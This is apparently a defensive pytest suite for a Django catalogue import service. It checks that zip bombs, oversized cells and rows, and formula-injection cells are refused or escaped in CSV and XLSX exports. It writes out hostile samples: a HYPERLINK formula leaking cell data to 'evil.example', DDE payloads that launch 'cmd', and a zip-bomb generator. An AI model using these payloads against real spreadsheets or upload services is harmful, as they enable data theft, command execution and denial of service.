"""Hostile spreadsheets: zip bombs, giant cells and rows, and formulas in exports."""

import csv
import io
import random
import string
import zipfile

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from oscar.core.loading import get_model

from catalog.imports.columns import header_for
from catalog.imports.models import ImportJob, ImportStatus
from catalog.imports.services import run_import as run_job
from tests.catalog.imports.conftest import csv_bytes, methanol

Product = get_model("catalogue", "Product")
ProductClass = get_model("catalogue", "ProductClass")

pytestmark = pytest.mark.django_db


def workbook_bytes(rows: list[list]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def with_long_cell(workbook: bytes, text: str) -> bytes:
    """``workbook`` with one more row holding ``text`` whole (openpyxl cuts cells at Excel's limit)."""
    cell = f'<c r="A9" t="inlineStr"><is><t>{text}</t></is></c>'
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            data = source.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", f'<row r="9">{cell}</row></sheetData>'.encode())
            target.writestr(entry.filename, data)
    return output.getvalue()


def zip_bomb() -> bytes:
    # One 8 MiB cell of one letter packs to a few KB: a thousand times smaller than it unpacks.
    return with_long_cell(workbook_bytes([header_for("chemical")]), "a" * (8 * 1024 * 1024))


def noise(length: int) -> str:
    # Random letters do not compress, so only the cell limit can refuse them.
    return "".join(random.choices(string.ascii_letters, k=length))


def test_a_zip_bomb_is_refused_at_the_api_and_nothing_is_stored(client, supplier, supplier_admin):
    client.force_login(supplier_admin)
    bomb = zip_bomb()
    assert len(bomb) < 100_000

    response = client.post(
        "/api/v1/imports/",
        {"product_class": "chemical", "file": SimpleUploadedFile("bomb.xlsx", bomb)},
    )

    assert response.status_code == 400
    assert "unpacks to more than an import can hold" in response.json()["file"][0]
    assert not ImportJob.objects.exists()


def test_a_zip_bomb_is_refused_on_the_upload_page(client, supplier, supplier_admin):
    client.force_login(supplier_admin)

    response = client.post(
        reverse("catalog_imports:new"),
        {"product_class": "chemical", "file": SimpleUploadedFile("bomb.xlsx", zip_bomb())},
    )

    assert response.status_code == 400
    assert "unpacks to more than an import can hold" in response.content.decode()
    assert not ImportJob.objects.exists()


def test_a_bomb_already_stored_fails_its_job_before_any_xml_is_parsed(supplier, supplier_admin):
    job = ImportJob.objects.create(
        supplier=supplier.partner,
        uploaded_by=supplier_admin,
        product_class=ProductClass.objects.get(slug="chemical"),
        file=ContentFile(zip_bomb(), name="bomb.xlsx"),
    )

    run_job(job=job)

    job.refresh_from_db()
    assert job.status == ImportStatus.FAILED
    assert "unpacks to more than an import can hold" in job.failure_message
    assert not Product.objects.exists()


@pytest.mark.parametrize("name", ["cell.csv", "cell.xlsx"])
def test_a_cell_past_excel_s_limit_fails_the_file_with_a_short_message(
    supplier, supplier_admin, coal_chemicals, run_import, name
):
    header = header_for("chemical")
    if name.endswith(".csv"):
        content = csv_bytes([methanol(), methanol(sku="LONG", description=noise(40_000))])
        row = 3
    else:
        content = with_long_cell(
            workbook_bytes([header, [methanol()[column] for column in header]]), noise(40_000)
        )
        row = 9

    job = run_import(supplier=supplier, user=supplier_admin, content=content, name=name)

    assert job.status == ImportStatus.FAILED
    assert (
        job.failure_message
        == f"Row {row} has a cell longer than 32,767 characters, a spreadsheet's own limit."
    )
    assert not Product.objects.exists()


def test_a_csv_cell_past_the_csv_reader_s_limit_is_named_too(supplier, supplier_admin, run_import):
    content = csv_bytes([methanol(description=noise(200_000))])

    job = run_import(supplier=supplier, user=supplier_admin, content=content)

    assert job.status == ImportStatus.FAILED
    assert job.failure_message == "A cell is longer than 32,767 characters, a spreadsheet's own limit."


def test_a_row_of_thousands_of_cells_fails_the_file(supplier, supplier_admin, run_import):
    header = ",".join(header_for("chemical"))
    content = f"{header}\n{',' * 2_000}x\n".encode()

    job = run_import(supplier=supplier, user=supplier_admin, content=content)

    assert job.status == ImportStatus.FAILED
    assert job.failure_message == "Row 2 has more than 500 cells."


def test_a_giant_unknown_column_name_leaves_a_bounded_failure_message(supplier, supplier_admin, run_import):
    header = [*header_for("chemical"), noise(30_000), *(f"extra_{n}" for n in range(50))]
    content = csv_bytes([methanol()], header=header)

    job = run_import(supplier=supplier, user=supplier_admin, content=content)

    assert job.status == ImportStatus.FAILED
    assert job.failure_message.startswith("The header row is not the template's")
    assert len(job.failure_message) < 1_000


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Methanol")',
    "description": "+cmd|' /C calc'!A0",
    "packaging": "@SUM(1+1)*cmd|' /C calc'!A0",
    "grade": "-2+3",
}


def exported(client, file_format: str) -> bytes:
    response = client.get(reverse("catalog_imports:export", args=["chemical", file_format]))
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_formula_cells_are_escaped_in_the_csv_export_and_import_back_unchanged(
    client, supplier, supplier_admin, coal_chemicals, run_import
):
    run_import(supplier=supplier, user=supplier_admin, content=csv_bytes([methanol(**FORMULAS)]))
    client.force_login(supplier_admin)

    content = exported(client, "csv")

    [header, row] = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))
    assert {name: cells[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
    assert cells["price"] == "285"  # numbers are not formulas
    again = run_import(supplier=supplier, user=supplier_admin, content=content, name="export.csv")
    assert (again.status, again.unchanged_count, again.errors) == (ImportStatus.DONE, 1, [])


def test_formula_cells_stay_text_in_the_xlsx_export(
    client, supplier, supplier_admin, coal_chemicals, run_import
):
    run_import(supplier=supplier, user=supplier_admin, content=csv_bytes([methanol(**FORMULAS)]))
    client.force_login(supplier_admin)

    content = exported(client, "xlsx")

    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = {name: sheet.cell(row=2, column=header.index(name) + 1) for name in FORMULAS}
    assert {name: (cell.data_type, cell.value) for name, cell in cells.items()} == {
        name: ("s", text) for name, text in FORMULAS.items()
    }
    assert all(cell.quotePrefix for name, cell in cells.items())
    again = run_import(supplier=supplier, user=supplier_admin, content=content, name="export.xlsx")
    assert (again.status, again.unchanged_count, again.errors) == (ImportStatus.DONE, 1, [])
